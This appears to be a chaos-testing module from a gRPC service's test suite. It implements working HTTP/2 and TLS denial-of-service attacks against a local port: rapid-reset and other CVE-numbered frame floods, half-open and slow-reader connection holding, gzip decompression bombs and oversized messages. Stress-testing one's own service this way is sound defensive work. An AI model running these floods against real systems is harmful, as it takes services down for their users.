"""Clients that do harm: floods, half-open connections, bombs, and readers that don't read.

Each is a function of a port of this machine and of seconds, after which it has ended, and
returns what it counted. Their number of frames is bounded as well. None of them gives up when
it is cut off: it comes back, as attackers do.

Alone, against a service of your own: ``python -m chaos.attacks NAME PORT SECONDS [tls]`` in tests/.
"""

from __future__ import annotations

import contextlib
import gzip
import itertools
import json
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Set
from typing import Final

import http2
from http2 import Connection, frame
from hyperframe.frame import Frame

Counts = Counter[str]
Attack = Callable[[int, float], Counts]

_MOST: Final = 5_000_000
"""Frames of one attack."""
_PATIENCE: Final = 1.0
"""Seconds for which a server that takes nothing more is waited for."""
_CUT_OFF: Final = 30.0
"""Seconds more for which an attack waits for what must be cut off."""
_HELD: Final = 100
"""Connections that are held open of each kind."""
_SERVICE: Final = "/geolookup.v1.GeoLookupService/"
_LOOKUP: Final = b"\x0a\x071.0.1.1"
"""A LookupRequest."""
_ROSTER: Final = b"\x0a\x80\x20" + bytes([1, 0, 1, 1]) * 1_024
"""A ClassifyRosterRequest."""
_IN_STREAM: Final = b"\x0a" + bytes([0x83, 0x20]) + _ROSTER
"""The same as StreamRosters takes it."""
"""Settings with which a server writes header fields out in full each time."""


_tls: ssl.SSLContext | None = None
"""With which connections that finish their handshake are made; None: in plaintext."""


class _Time:
    """The time that an attack has left."""

    def __init__(self, seconds: float) -> None:
        self._end = time.monotonic() + seconds

    @property
    def left(self) -> float:
        return max(0.0, self._end - time.monotonic())

    def __bool__(self) -> bool:
        return self.left > 0


def _connections(
    port: int, time_: _Time, counts: Counts, values: dict[int, int] | None = None
) -> Iterator[Connection]:
    """Yield one connection after another, as the one before was cut off, until the time is up."""
    while time_ and counts["frames"] < _MOST:
        try:
            connection = Connection(port, polite=False, values=values, patience=_PATIENCE, tls=_tls)
        except OSError:
            counts["not let in"] += 1
            time.sleep(min(0.01, time_.left))
            continue
        counts["connections"] += 1
        with connection:
            try:
                connection.send(http2.SETTINGS, http2.ACK)
                yield connection
            except TimeoutError:
                counts["stalled"] += 1
            except OSError:
                counts["cut off"] += 1


def _flood(
    port: int, seconds: float, burst: Callable[[int], tuple[bytes, int]], *, reading: bool
) -> Counts:
    """Send bursts of frames.

    Args:
        port: the server's.
        seconds: for how long.
        burst: bytes and how many frames they are, of the burst with a number, from 0, of
            the connection.
        reading: whether what the server answers is read.
    """
    counts, time_ = Counts(), _Time(seconds)

    def one(connection: Connection) -> None:
        for number in itertools.count():
            if not time_ or counts["frames"] >= _MOST:
                return
            some, frames = burst(number)
            connection.raw(some)
            counts["frames"] += frames
            if reading:
                _note(connection, connection.ready(), counts)

    _each(_connections(port, time_, counts), one, counts)
    return counts


def _each(
    connections: Iterator[Connection], act: Callable[[Connection], None], counts: Counts
) -> None:
    """Act on each connection; what ends it is counted, and is no error."""
    for connection in connections:
        try:
            act(connection)
        except TimeoutError:
            counts["stalled"] += 1
        except OSError:
            counts["cut off"] += 1


def _note(connection: Connection, frames: list[Frame], counts: Counts) -> None:
    for one in frames:
        if one.type == http2.GOAWAY:
            counts["asked to go"] += 1
        elif one.type == http2.RST_STREAM:
            counts["streams refused"] += 1
        elif one.type == http2.HEADERS and "END_STREAM" in one.flags:
            fields = connection.fields.pop(one.stream_id)
            if "grpc-status" in fields:
                counts[f"status {fields['grpc-status']}"] += 1


# floods


def rapid_reset(port: int, seconds: float) -> Counts:
    """Begin calls and take them back in the same breath (CVE-2023-44487)."""
    begun = http2.block(http2.request(_SERVICE + "Lookup"))
    taken_back = http2.CANCEL.to_bytes(4, "big")

    def burst(number: int) -> tuple[bytes, int]:
        streams = range(200 * number + 1, 200 * number + 201, 2)
        pairs = (
            frame(http2.HEADERS, http2.END_HEADERS, stream, begun)
            + frame(http2.RST_STREAM, 0, stream, taken_back)
            for stream in streams
        )
        return b"".join(pairs), 2 * len(streams)

    return _flood(port, seconds, burst, reading=True)


def pings(port: int, seconds: float) -> Counts:
    """Send pings and read no answer (CVE-2019-9512)."""
    some = frame(http2.PING, 0, 0, bytes(8)) * 500
    return _flood(port, seconds, lambda _: (some, 500), reading=False)


def settings(port: int, seconds: float) -> Counts:
    """Send settings, each of which must be acknowledged, and read no answer (CVE-2019-9515)."""
    body = http2.settings({http2.INITIAL_WINDOW_SIZE: 65_535, http2.MAX_FRAME_SIZE: 16_384})
    some = frame(http2.SETTINGS, 0, 0, body) * 500
    return _flood(port, seconds, lambda _: (some, 500), reading=False)


def continuation(port: int, seconds: float) -> Counts:
    """Begin headers and go on with them for ever (CVE-2024-27316)."""
    first = http2.block(http2.request(_SERVICE + "Lookup"))
    more = http2.block([(f"x-{number}", "v" * 1_000) for number in range(15)])

    def burst(number: int) -> tuple[bytes, int]:
        if not number:
            return frame(http2.HEADERS, 0, 1, first), 1
        return frame(http2.CONTINUATION, 0, 1, more), 1

    return _flood(port, seconds, burst, reading=True)


def empty_frames(port: int, seconds: float) -> Counts:
    """Send data that is none, for ever (CVE-2019-9518)."""
    begun = http2.block(http2.request(_SERVICE + "Lookup"))

    def burst(number: int) -> tuple[bytes, int]:
        if not number:
            return frame(http2.HEADERS, http2.END_HEADERS, 1, begun), 1
        return frame(http2.DATA, 0, 1, b"") * 500, 500

    return _flood(port, seconds, burst, reading=True)


def windows(port: int, seconds: float) -> Counts:
    """Open the window a byte at a time, of a stream and of the connection."""
    begun = http2.block(http2.request(_SERVICE + "StreamRosters"))
    byte = (1).to_bytes(4, "big")
    some = frame(http2.WINDOW_UPDATE, 0, 1, byte) + frame(http2.WINDOW_UPDATE, 0, 0, byte)

    def burst(number: int) -> tuple[bytes, int]:
        if not number:
            return frame(http2.HEADERS, http2.END_HEADERS, 1, begun), 1
        return some * 250, 500

    return _flood(port, seconds, burst, reading=True)


def connections(port: int, seconds: float) -> Counts:
    """Connect and hang up, as fast as it goes."""
    return _come_and_go(port, seconds, http2.PREFACE)


def handshakes(port: int, seconds: float) -> Counts:
    """Have the server sign one TLS handshake after another, and hang up each time."""
    return _come_and_go(port, seconds, _hello(), waiting=True)


def _come_and_go(port: int, seconds: float, beginning: bytes, *, waiting: bool = False) -> Counts:
    """Open one connection after another, say this, wait for an answer or not, and hang up."""
    counts, time_ = Counts(), _Time(seconds)
    while time_ and counts["connections"] < _MOST:
        try:
            with socket.create_connection(("127.0.0.1", port), _PATIENCE) as connection:
                # Without a goodbye (RST), or this side would run out of ports first.
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, bytes([1] + [0] * 7))
                connection.sendall(beginning)
                if waiting:
                    counts["answered"] += bool(connection.recv(1))
            counts["connections"] += 1
        except OSError:
            counts["not let in"] += 1
    return counts


# who holds something


_HALF: Final = {
    "nothing": b"",
    "half a preface": http2.PREFACE[:12],
    "a preface": http2.PREFACE,
    "settings": http2.PREFACE + frame(http2.SETTINGS, 0, 0, b""),
    "half a frame": http2.PREFACE + frame(http2.SETTINGS, 0, 0, b"") + b"\0\x10\0\1",
    "headers without an end": http2.PREFACE
    + frame(http2.SETTINGS, 0, 0, b"")
    + frame(http2.SETTINGS, http2.ACK, 0, b"")
    + frame(http2.HEADERS, 0, 1, http2.block(http2.request(_SERVICE + "Lookup"))),
    "half a message": http2.PREFACE
    + frame(http2.SETTINGS, 0, 0, b"")
    + frame(http2.SETTINGS, http2.ACK, 0, b"")
    + frame(http2.HEADERS, 4, 1, http2.block(http2.request(_SERVICE + "ClassifyRoster")))
    + frame(http2.DATA, 0, 1, http2.message(_ROSTER)[:500]),
}


_MAY_STAY: Final = frozenset({"headers without an end", "half a message"})
"""Those that have finished the handshake, which the service has a time-out for."""


def half_open(port: int, seconds: float) -> Counts:
    """Begin what a connection begins with, go silent, and come back when cut off."""
    return _hold(port, seconds, _HALF, _MAY_STAY)


def half_handshakes(port: int, seconds: float) -> Counts:
    """Begin what TLS begins with, or something else, go silent, and come back when cut off."""
    hello = _hello()
    return _hold(
        port,
        seconds,
        {
            "nothing": b"",
            "half a hello": hello[: len(hello) // 2],
            "a hello": hello,
            "a hello of 16 kB that is not all there": b"\x16\x03\x01\x40\x00" + hello[5:],
            "two hellos": hello * 2,
            "no TLS": http2.PREFACE,
        },
    )


def _hello() -> bytes:
    """Return what a client of TLS begins with."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost").do_handshake()
    return sent.read()


def _hold(
    port: int,
    seconds: float,
    beginnings: Mapping[str, bytes],
    may_stay: Set[str] = frozenset(),
) -> Counts:
    """Open connections with each of these beginnings, go silent, and come back when cut off.

    A busy machine may cut off the first of them when the time is up: they are waited for, but
    for those that may stay.
    """
    counts, time_, at_most = Counts(), _Time(seconds), _Time(seconds + _CUT_OFF)
    awaited = {f"cut off after {kind}" for kind in beginnings if kind not in may_stay}
    held: list[tuple[str, Connection]] = []
    wanted = [kind for kind in beginnings for _ in range(_HELD)]
    try:
        while time_ or (at_most and not awaited <= counts.keys()):
            for kind in wanted:
                try:
                    connection = Connection(port, greet=False, polite=False, patience=_PATIENCE)
                    held.append((kind, connection))
                    connection.raw(beginnings[kind])
                    counts["connections"] += 1
                except OSError:
                    counts["not let in"] += 1
            wanted = []
            time.sleep(min(0.1, at_most.left))
            for kind, connection in list(held):
                if _is_cut_off(connection):
                    held.remove((kind, connection))
                    connection.close()
                    counts[f"cut off after {kind}"] += 1
                    wanted.append(kind)
        counts["held to the end"] = len(held)
        for kind, _ in held:
            counts[f"held after {kind}"] += 1
    finally:
        for _, connection in held:
            connection.close()
    return counts


def _is_cut_off(connection: Connection) -> bool:
    try:
        connection.ready()
    except OSError:
        return True
    return False


def slow_readers(port: int, seconds: float) -> Counts:
    """Ask small questions with large answers, and read none of them."""
    counts, time_ = Counts(), _Time(seconds)
    question = http2.block(http2.request(_SERVICE + "ListRegionSets"))
    held: list[Connection] = []
    try:
        for number in itertools.cycle(range(2)):
            if not time_ or len(held) >= _HELD:
                break
            # Some never open the window, others open it wide and don't read.
            values = {http2.INITIAL_WINDOW_SIZE: 0 if number else 2**31 - 1}
            try:
                connection = Connection(port, polite=False, values=values, patience=0.2, tls=_tls)
                held.append(connection)
                connection.send(http2.SETTINGS, http2.ACK)
                counts["connections"] += 1
                for stream in range(1, 2_000, 2):
                    connection.raw(
                        frame(http2.HEADERS, http2.END_HEADERS, stream, question)
                        + frame(http2.DATA, http2.END_STREAM, stream, http2.message(b""))
                    )
                    counts["calls"] += 1
            except TimeoutError:
                counts["stalled"] += 1
            except OSError:
                counts["cut off"] += 1
        time.sleep(time_.left)
    finally:
        for connection in held:
            connection.close()
    return counts


def slow_streams(port: int, seconds: float) -> Counts:
    """Send rosters in a stream as fast as they are taken, and read no answer."""
    counts, time_ = Counts(), _Time(seconds)

    def one(connection: Connection) -> None:
        connection.open(1, _SERVICE + "StreamRosters")
        while time_:
            connection.data(1, http2.message(_IN_STREAM), end=False)
            counts["rosters"] += 1

    _each(_connections(port, time_, counts, {http2.INITIAL_WINDOW_SIZE: 0}), one, counts)
    return counts


# what is too much in one


def _calls(port: int, seconds: float, call: Callable[[Connection, int], Frame | None]) -> Counts:
    """Make one call after another, each with all the time that is left, and count their ends."""
    counts, time_ = Counts(), _Time(seconds)

    def one(connection: Connection) -> None:
        for stream in itertools.count(1, 2):
            if not time_:
                return
            early = call(connection, stream)
            counts["calls"] += 1
            _note(connection, [early] if early else connection.rest(stream), counts)
            if stream > 199:  # and a new connection, now and then
                return

    _each(_connections(port, time_, counts), one, counts)
    return counts


def bombs(port: int, seconds: float) -> Counts:
    """Send messages of 100 kB that unpack to 100 MB."""
    bomb = http2.message(gzip.compress(bytes(100 << 20)), compressed=True)

    def call(connection: Connection, stream: int) -> Frame | None:
        connection.open(stream, _SERVICE + "Lookup", ("grpc-encoding", "gzip"))
        return connection.data(stream, bomb)

    return _calls(port, seconds, call)


def large_messages(port: int, seconds: float) -> Counts:
    """Send messages of 100 MB, and of a size that can't be."""
    large = http2.message(bytes(100 << 20))
    endless = b"\0\xff\xff\xff\xff" + bytes(1 << 20)

    def call(connection: Connection, stream: int) -> Frame | None:
        connection.open(stream, _SERVICE + "ClassifyRoster")
        return connection.data(stream, large if stream % 4 == 1 else endless)

    return _calls(port, seconds, call)


def large_metadata(port: int, seconds: float) -> Counts:
    """Send metadata of 100 kB: many fields, and a large one."""
    many = [(f"x-{number}", "v" * 80) for number in range(1_000)]
    large = [("x-large", "v" * 100_000)]

    def call(connection: Connection, stream: int) -> Frame | None:
        connection.open(stream, _SERVICE + "Lookup", *(many if stream % 4 == 1 else large))
        return connection.data(stream, http2.message(_LOOKUP))

    return _calls(port, seconds, call)


def cancelled(port: int, seconds: float) -> Counts:
    """Cancel calls and streams at each of their stages."""
    counts, time_ = Counts(), _Time(seconds)
    taken_back = http2.CANCEL.to_bytes(4, "big")

    def one(connection: Connection) -> None:
        for stream in itertools.count(1, 2):
            if not time_:
                return
            stage = stream // 2 % 4
            connection.open(stream, _SERVICE + ("StreamRosters" if stage else "Lookup"))
            if stage:
                connection.data(stream, http2.message(_IN_STREAM), end=stage == 3)
            if stage == 2:
                connection.expect(http2.HEADERS, stream)
            connection.send(http2.RST_STREAM, 0, stream, taken_back)
            counts["frames"] += 3
            counts["cancelled"] += 1
            _note(connection, connection.ready(), counts)
            if stream > 999:
                return

    _each(_connections(port, time_, counts), one, counts)
    return counts


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        pings,
        settings,
        continuation,
        empty_frames,
        windows,
        connections,
        handshakes,
        half_open,
        half_handshakes,
        slow_readers,
        slow_streams,
        bombs,
        large_messages,
        large_metadata,
        cancelled,
    )
}


def main(arguments: list[str]) -> None:
    """Make one attack and print what it counted, as JSON."""
    global _tls  # noqa: PLW0603 - this process makes one attack
    name, port, seconds, *more = arguments
    if more == ["tls"]:
        _tls = ssl.create_default_context()
        _tls.check_hostname, _tls.verify_mode = False, ssl.CERT_NONE
        _tls.set_alpn_protocols(["h2"])
    print(json.dumps(ATTACKS[name](int(port), float(seconds))))  # noqa: T201


if __name__ == "__main__":
    main(sys.argv[1:])
